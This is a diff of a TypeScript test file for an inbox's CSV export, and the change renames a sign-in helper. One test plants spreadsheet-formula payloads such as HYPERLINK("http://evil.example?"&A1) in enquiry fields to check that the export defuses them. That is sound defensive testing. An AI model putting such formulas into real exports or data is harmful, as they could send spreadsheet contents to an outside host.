@@ -1,6 +1,6 @@
 import { expect, test } from 'vitest';
 import { makeEnquiry } from '#tests/factories/enquiry.ts';
-import { signInContractor } from '#tests/factories/session.ts';
+import { signInBusiness } from '#tests/factories/session.ts';
 import { createTestApp } from '#tests/helpers/test-app.ts';
 
 const { app, db } = await createTestApp();
@@ -11,7 +11,7 @@ async function download(headers: Record<string, string>, query = '') {
 }
 
 test('the inbox comes as CSV that a spreadsheet opens, newest first, with times of India', async () => {
-  const owner = await signInContractor(db);
+  const owner = await signInBusiness(db);
   await makeEnquiry(db, {
     business_id: owner.id,
     name: 'Meera "MK" Kulkarni',
@@ -38,7 +38,7 @@ test('the inbox comes as CSV that a spreadsheet opens, newest first, with times 
 });
 
 test.each(['=', '+', '-', '@', '\t', '\r'])('a text that begins with %j is no formula', async (character) => {
-  const owner = await signInContractor(db);
+  const owner = await signInBusiness(db);
   const formula = `${character}HYPERLINK("http://evil.example?"&A1)`;
   await makeEnquiry(db, { business_id: owner.id, name: formula, message: formula });
   const { text } = await download(owner.headers);
@@ -46,7 +46,7 @@ test.each(['=', '+', '-', '@', '\t', '\r'])('a text that begins with %j is no fo
 });
 
 test('a large inbox comes whole, each enquiry once', async () => {
-  const owner = await signInContractor(db);
+  const owner = await signInBusiness(db);
   const rows = Array.from({ length: 1_203 }, (_, at) => ({
     business_id: owner.id,
     name: `Writer ${at}`,
